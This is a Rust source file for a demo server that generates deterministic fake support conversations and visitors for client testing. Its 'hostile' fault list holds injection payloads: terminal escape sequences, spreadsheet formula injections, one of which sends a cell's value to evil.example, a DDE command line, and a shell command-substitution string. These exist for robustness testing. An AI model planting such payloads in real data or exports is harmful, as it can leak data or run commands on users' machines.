//! Generated data that looks real, deterministic per seed.

use std::collections::HashMap;

use jiff::{SignedDuration, Timestamp};
use serde::{Serialize, Serializer};
use serde_json::{Value, json};
use uuid::Uuid;

use super::queue::Kind;

/// The instant the data is generated back from: fixed, so a seed always gives the same rows.
pub const REFERENCE_TIME: &str = "2026-11-22T12:00:00Z";

/// splitmix64: small, fast, good enough for demo data, and stable across platforms.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    /// A generator for `seed`.
    pub fn new(seed: u64) -> Rng {
        Rng(seed ^ 0x5851_f42d_4c95_7f2d)
    }
    /// The next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    /// Uniform in `0..n` (n > 0).
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n.max(1)
    }
    /// True with probability `percent`/100.
    pub fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }
    /// One element of a non-empty slice.
    pub fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
    /// One element (a copy) of a slice; `None` when it is empty.
    pub fn pick_of<T: Copy>(&mut self, xs: &[T]) -> Option<T> {
        (!xs.is_empty()).then(|| *self.pick(xs))
    }
    /// A valid version-4 UUID.
    pub fn uuid(&mut self) -> Uuid {
        let hi = self.next_u64() as u128;
        let lo = self.next_u64() as u128;
        uuid::Builder::from_random_bytes(((hi << 64) | lo).to_be_bytes()).into_uuid()
    }
}

fn ts<S: Serializer>(t: &Timestamp, s: S) -> Result<S::Ok, S::Error> {
    s.serialize_str(&t.to_string())
}

/// A conversation as the demo server stores and sends it.
#[derive(Debug, Clone, Serialize, PartialEq)]
#[serde(rename_all = "camelCase")]
pub struct DemoConversation {
    /// Conversation id (UUID v4).
    pub id: Uuid,
    /// One of [`Dataset::sites`].
    pub site_id: Uuid,
    /// One of the visitors of the same [`Dataset`].
    pub visitor_id: Uuid,
    /// `open`, `pending` or `closed` (`snoozed` under the `unknown_status` fault).
    pub status: &'static str,
    /// One of [`Dataset::agents`]; `None` (sent as `null`) when unassigned.
    pub assignee_id: Option<Uuid>,
    /// Creation time, RFC 3339 UTC with `Z` on the wire.
    #[serde(serialize_with = "ts")]
    pub created_at: Timestamp,
    /// Last update, never before `created_at`.
    #[serde(serialize_with = "ts")]
    pub updated_at: Timestamp,
}

impl DemoConversation {
    /// Whether it waits for a first response: open and unassigned.
    pub fn waits(&self) -> bool {
        self.status == "open" && self.assignee_id.is_none()
    }
}

/// A visitor as the demo server stores and sends it. `None` fields are sent as null, or left
/// out when `omit_empty` is set, so clients meet both forms.
#[derive(Debug, Clone, PartialEq)]
pub struct DemoVisitor {
    /// Visitor id (UUID v4).
    pub id: Uuid,
    /// Id in the caller's own system, e.g. `crm-000123`.
    pub external_id: Option<String>,
    /// E-mail address; a few are shared between visitors.
    pub email: Option<String>,
    /// Display name: accents, CJK, emoji.
    pub name: Option<String>,
    /// Free-form object with values of every JSON type.
    pub attributes: Value,
    /// Creation time, RFC 3339 UTC with `Z` on the wire.
    pub created_at: Timestamp,
    /// Leave `None` fields out of the JSON instead of sending `null`.
    pub omit_empty: bool,
}

impl Serialize for DemoVisitor {
    fn serialize<S: Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        use serde::ser::SerializeMap;
        let mut m = s.serialize_map(None)?;
        m.serialize_entry("id", &self.id)?;
        for (k, v) in [
            ("externalId", &self.external_id),
            ("email", &self.email),
            ("name", &self.name),
        ] {
            if v.is_some() || !self.omit_empty {
                m.serialize_entry(k, v)?;
            }
        }
        m.serialize_entry("attributes", &self.attributes)?;
        m.serialize_entry("createdAt", &self.created_at.to_string())?;
        m.end()
    }
}

/// The whole generated data set, each list sorted in API order (createdAt desc, id desc).
#[derive(Debug, Clone)]
pub struct Dataset {
    /// All conversations, in API order.
    pub conversations: Vec<DemoConversation>,
    /// All visitors, in API order.
    pub visitors: Vec<DemoVisitor>,
    /// The 4 to 6 sites conversations belong to.
    pub sites: Vec<Uuid>,
    /// The 8 to 12 agents conversations are assigned to.
    pub agents: Vec<Uuid>,
}

/// Indexes for the selective filters, so a page never scans the whole list.
#[derive(Debug, Default)]
pub struct Indexes {
    /// Conversation positions (API order) per visitor id.
    pub by_visitor: HashMap<Uuid, Vec<u32>>,
    /// Visitor positions per lower-cased e-mail address.
    pub by_email: HashMap<String, Vec<u32>>,
    /// Visitor positions per external id (exact).
    pub by_external_id: HashMap<String, Vec<u32>>,
}

impl Indexes {
    /// Indexes `ds`.
    pub fn build(ds: &Dataset) -> Indexes {
        let mut ix = Indexes::default();
        for (i, c) in ds.conversations.iter().enumerate() {
            ix.by_visitor
                .entry(c.visitor_id)
                .or_default()
                .push(i as u32);
        }
        for (i, v) in ds.visitors.iter().enumerate() {
            if let Some(e) = &v.email {
                ix.by_email
                    .entry(e.to_lowercase())
                    .or_default()
                    .push(i as u32);
            }
            if let Some(x) = &v.external_id {
                ix.by_external_id
                    .entry(x.clone())
                    .or_default()
                    .push(i as u32);
            }
        }
        ix
    }
}

const FIRST: &[&str] = &[
    "Ana", "Liam", "Sofia", "Noah", "Emma", "Lucas", "Mia", "Ethan", "Chloé", "Mateo", "Zoë",
    "José", "Björn", "Ingrid", "Aiko", "Priya", "Olusegun", "Fatima", "Dmitri", "Hannah",
];
const LAST: &[&str] = &[
    "García",
    "Smith",
    "Müller",
    "Rossi",
    "Dubois",
    "Kowalski",
    "Nakamura",
    "Okafor",
    "Silva",
    "Johansson",
    "Álvarez",
    "Łukasiewicz",
    "O'Brien",
    "Nguyen",
    "Haddad",
    "Petrov",
];
const WHOLE: &[&str] = &[
    "王小明",
    "佐藤 花子",
    "김민준",
    "李娜",
    "Mia 🌸",
    "Kai 🚀",
    "Renée Ødegård",
    "Αλέξης Παππάς",
    "Игорь Смирнов",
    "محمد علي",
    "François Lefèvre",
    "Nguyễn Văn An",
];
const DOMAINS: &[&str] = &[
    "example.com",
    "mail.example.org",
    "example.net",
    "shop.example",
];
const PLANS: &[&str] = &["free", "starter", "pro", "enterprise"];
const TAGS: &[&str] = &["vip", "eu", "us", "beta", "churn-risk", "b2b", "mobile"];
const CITIES: &[&str] = &[
    "Lyon",
    "Osaka",
    "Lagos",
    "Kraków",
    "São Paulo",
    "Toronto",
    "Zürich",
];

fn ascii_slug(s: &str) -> String {
    s.chars()
        .filter_map(|c| match c {
            'a'..='z' | '0'..='9' => Some(c),
            'A'..='Z' => Some(c.to_ascii_lowercase()),
            ' ' | '\'' => Some('.'),
            _ => None,
        })
        .collect()
}

fn attributes(r: &mut Rng) -> Value {
    let mut m = serde_json::Map::new();
    m.insert("plan".into(), json!(r.pick(PLANS)));
    if r.chance(70) {
        m.insert("seats".into(), json!(1 + r.below(50)));
    }
    if r.chance(60) {
        m.insert("mrr".into(), json!((r.below(100_000) as f64) / 100.0));
    }
    if r.chance(50) {
        m.insert("beta".into(), json!(r.chance(50)));
    }
    if r.chance(50) {
        let n = 1 + r.below(3);
        let tags: Vec<&str> = (0..n).map(|_| *r.pick(TAGS)).collect();
        m.insert("tags".into(), json!(tags));
    }
    if r.chance(40) {
        m.insert(
            "address".into(),
            json!({"city": r.pick(CITIES), "zip": format!("{:05}", r.below(99_999))}),
        );
    }
    if r.chance(20) {
        m.insert("churn_risk".into(), Value::Null);
    }
    Value::Object(m)
}

/// More variety in `attributes`, from a generator of the visitor's own (so the main stream,
/// and every other field, stays as it was): negative and 64-bit integers, fractions, arrays of
/// objects, text with quotes and newlines, and a few empty objects.
fn more_attributes(v: &mut DemoVisitor) {
    let mut r = Rng::new(v.id.as_u128() as u64 ^ 0x6174_7472);
    let Value::Object(m) = &mut v.attributes else {
        return;
    };
    if r.chance(5) {
        m.clear();
        return;
    }
    if r.chance(15) {
        m.insert("balance".into(), json!(-(r.below(50_000) as i64)));
    }
    if r.chance(10) {
        m.insert("account_no".into(), json!(9_007_199_254_740_993u64));
    }
    if r.chance(20) && !m.contains_key("churn_risk") {
        m.insert(
            "churn_risk".into(),
            json!(r.below(1000) as f64 / 1000.0 + 0.0005),
        );
    }
    if r.chance(15) {
        m.insert(
            "orders".into(),
            json!([{"sku": "A-1", "qty": 1 + r.below(3)}, {"sku": "B-7", "qty": 1, "gift": true, "meta": null}]),
        );
    }
    if r.chance(25) {
        m.insert(
            "locale".into(),
            json!(*r.pick(&["fr-FR", "ja-JP", "pt-BR", "de-CH", "en-US"])),
        );
    }
    if r.chance(5) {
        m.insert(
            "notes".into(),
            json!("Prefers e-mail.\n\"VIP\" since 2019; café ☕"),
        );
    }
    if r.chance(5) {
        m.insert(
            "nested".into(),
            json!({"a": {"b": {"c": [1, [2, 3], {"d": false}]}}}),
        );
    }
}

/// Moves every time of `d` by the same amount, so that what was [`REFERENCE_TIME`] becomes
/// `anchor`: order, ages and gaps stay exactly as generated.
pub fn shift_times(d: &mut Dataset, anchor: Timestamp) {
    let reference: Timestamp = REFERENCE_TIME.parse().unwrap_or(Timestamp::UNIX_EPOCH);
    let by = reference.duration_until(anchor);
    let shift = |t: Timestamp| t.checked_add(by).unwrap_or(t);
    for c in &mut d.conversations {
        c.created_at = shift(c.created_at);
        c.updated_at = shift(c.updated_at);
    }
    for v in &mut d.visitors {
        v.created_at = shift(v.created_at);
    }
}

/// Lays the live queue of [`super::queue`] over the first of `cs` (in generation order, so at
/// random times) at `reference`, and gives every other one that would wait an agent. Its own
/// generator, so every other field stays as generated.
fn live_queue(cs: &mut [DemoConversation], agents: &[Uuid], seed: u64, reference: Timestamp) {
    let mut r = Rng::new(seed ^ 0x7175_6575_6521);
    let plan = super::queue::plan(cs.len(), |n| r.below(n));
    let (queue, history) = cs.split_at_mut(plan.len());
    for (c, (kind, age)) in queue.iter_mut().zip(plan) {
        c.created_at = reference - SignedDuration::from_secs(age);
        let (status, assignee, updated) = match kind {
            // The visitor may have written again since.
            Kind::Waiting => ("open", None, r.below(age as u64 / 2 + 1)),
            Kind::Taken(status) => (status, r.pick_of(agents), 1 + r.below(age as u64)),
        };
        c.status = status;
        c.assignee_id = assignee;
        c.updated_at = (c.created_at + SignedDuration::from_secs(updated as i64)).min(reference);
    }
    for c in history.iter_mut().filter(|c| c.waits()) {
        c.assignee_id = r.pick_of(agents);
    }
}

/// A visitor who just arrived (the churn's new visitors): a name, an address, an external id.
pub(crate) fn fresh_visitor(r: &mut Rng, created_at: Timestamp) -> DemoVisitor {
    let name = format!("{} {}", r.pick(FIRST), r.pick(LAST));
    let slug = ascii_slug(&name);
    let local = match slug.trim_matches('.') {
        "" => "visitor".to_string(),
        s => s.to_string(),
    };
    DemoVisitor {
        id: r.uuid(),
        external_id: Some(format!("crm-{:06}", r.below(1_000_000))),
        email: Some(format!("{local}{}@{}", r.below(100), r.pick(DOMAINS))),
        name: Some(name),
        attributes: attributes(r),
        created_at,
        omit_empty: false,
    }
}

/// Generates the data set for a seed. Cheap enough for 1,000,000 conversations. The newest
/// conversations are a live queue at [`REFERENCE_TIME`] (see [`super::queue`]): some waiting
/// within the first-response target, some imminent, a few breaching; nobody older waits.
pub fn dataset(seed: u64, conversations: usize, visitors: usize) -> Dataset {
    let mut r = Rng::new(seed);
    let reference: Timestamp = REFERENCE_TIME.parse().unwrap_or(Timestamp::UNIX_EPOCH);
    let window = 90 * 24 * 3600;
    let sites: Vec<Uuid> = (0..4 + r.below(3)).map(|_| r.uuid()).collect();
    let agents: Vec<Uuid> = (0..8 + r.below(5)).map(|_| r.uuid()).collect();

    // Every conversation links to an existing visitor.
    let visitors = if conversations > 0 {
        visitors.max(1)
    } else {
        visitors
    };
    let mut vs: Vec<DemoVisitor> = Vec::with_capacity(visitors);
    let mut emails: Vec<String> = Vec::new();
    for i in 0..visitors {
        let name = if r.chance(25) {
            r.pick(WHOLE).to_string()
        } else {
            format!("{} {}", r.pick(FIRST), r.pick(LAST))
        };
        let email = if r.chance(8) {
            None
        } else if !emails.is_empty() && r.chance(4) {
            // Some visitors share an address (a family, a shared inbox).
            Some(r.pick(&emails).clone())
        } else {
            let slug = ascii_slug(&name);
            let local = if slug.trim_matches('.').is_empty() {
                format!("visitor{i}")
            } else {
                format!("{}{}", slug.trim_matches('.'), r.below(100))
            };
            let e = format!("{local}@{}", r.pick(DOMAINS));
            emails.push(e.clone());
            Some(e)
        };
        vs.push(DemoVisitor {
            id: r.uuid(),
            external_id: (!r.chance(10)).then(|| format!("crm-{:06}", r.below(1_000_000))),
            email,
            name: (!r.chance(6)).then_some(name),
            attributes: attributes(&mut r),
            created_at: reference - SignedDuration::from_secs(r.below(window) as i64),
            omit_empty: r.chance(50),
        });
    }
    for v in &mut vs {
        more_attributes(v);
    }
    vs.sort_by_key(|v| std::cmp::Reverse((v.created_at, v.id)));

    let mut cs: Vec<DemoConversation> = Vec::with_capacity(conversations);
    for _ in 0..conversations {
        let created = reference - SignedDuration::from_secs(r.below(window) as i64);
        let status = match r.below(100) {
            0..45 => "open",
            45..65 => "pending",
            _ => "closed",
        };
        let age = created.duration_until(reference).as_secs().max(1) as u64;
        cs.push(DemoConversation {
            id: r.uuid(),
            site_id: *r.pick(&sites),
            visitor_id: if vs.is_empty() {
                r.uuid()
            } else {
                r.pick(&vs).id
            },
            status,
            assignee_id: (!r.chance(30)).then(|| *r.pick(&agents)),
            created_at: created,
            updated_at: created + SignedDuration::from_secs(r.below(age) as i64),
        });
    }
    live_queue(&mut cs, &agents, seed, reference);
    cs.sort_by_key(|c| std::cmp::Reverse((c.created_at, c.id)));
    created_by_first_conversation(&mut vs, &cs);
    Dataset {
        conversations: cs,
        visitors: vs,
        sites,
        agents,
    }
}

/// A visitor exists before they write: one created after their first conversation (a random
/// time drawn apart from it) is created at it instead. `vs` is sorted again (API order).
fn created_by_first_conversation(vs: &mut [DemoVisitor], cs: &[DemoConversation]) {
    let mut first: std::collections::HashMap<Uuid, Timestamp> = std::collections::HashMap::new();
    for c in cs {
        first
            .entry(c.visitor_id)
            .and_modify(|t| *t = (*t).min(c.created_at))
            .or_insert(c.created_at);
    }
    for v in vs.iter_mut() {
        if let Some(&t) = first.get(&v.id) {
            v.created_at = v.created_at.min(t);
        }
    }
    vs.sort_by_key(|v| std::cmp::Reverse((v.created_at, v.id)));
}

/// Hostile text for the `hostile` fault: everything a terminal could act on, then what a
/// spreadsheet would run as a formula if a CSV export let it.
pub const HOSTILE: &[&str] = &[
    "\u{1b}[2JCleared",
    "\u{1b}]0;pwned\u{7}title",
    "\u{1b}[31mred\u{1b}[0m",
    "c1\u{9b}31mcsi",
    "carriage\rreturn",
    "back\u{8}\u{8}space",
    "\u{202e}evil override",
    "zero\u{200d}width\u{200b}join",
    "tab\there\nnewline",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    // What a shell would run, were a value ever put in a shell line (`[[commands]]` never
    // does: tests/tui_commands.rs).
    "$(touch x); `touch x` ; 'single' \"double\" \\ $HOME\nsecond line > x",
];

/// The status every 13th conversation has under the `hostile` fault: a formula.
pub const HOSTILE_STATUS: &str = "=cmd|' /C calc'!A0";

/// Makes the data hostile: control sequences and formulas in every visitor text field, a
/// 5,000-character name, nulls and missing fields; every 13th conversation's status is
/// [`HOSTILE_STATUS`].
pub fn make_hostile(ds: &mut Dataset) {
    for c in ds.conversations.iter_mut().skip(12).step_by(13) {
        c.status = HOSTILE_STATUS;
    }
    for (i, v) in ds.visitors.iter_mut().enumerate() {
        let h = HOSTILE[i % HOSTILE.len()];
        v.name = match i % 11 {
            3 => Some("x".repeat(5_000)),
            7 => None,
            _ => Some(format!("{h} {}", v.name.as_deref().unwrap_or("anon"))),
        };
        v.email = if i % 5 == 4 {
            None
        } else {
            Some(format!("{h}@example.com"))
        };
        v.external_id = Some(format!("ext-{h}"));
        if let Value::Object(m) = &mut v.attributes {
            m.insert("note".into(), json!(h));
        }
        v.omit_empty = i % 2 == 0;
    }
}

/// The `coarse_times` fault: every `createdAt` cut to its hour, so that many rows share a
/// second, and both lists sorted again in the demo's order, (createdAt, id) descending.
pub(crate) fn coarse_times(d: &mut Dataset) {
    let cut = |t: Timestamp| {
        let s = t.as_second();
        Timestamp::from_second(s - s.rem_euclid(3600)).unwrap_or(t)
    };
    for c in &mut d.conversations {
        c.created_at = cut(c.created_at);
    }
    for v in &mut d.visitors {
        v.created_at = cut(v.created_at);
    }
    d.conversations
        .sort_by_key(|c| std::cmp::Reverse((c.created_at, c.id)));
    d.visitors
        .sort_by_key(|v| std::cmp::Reverse((v.created_at, v.id)));
}
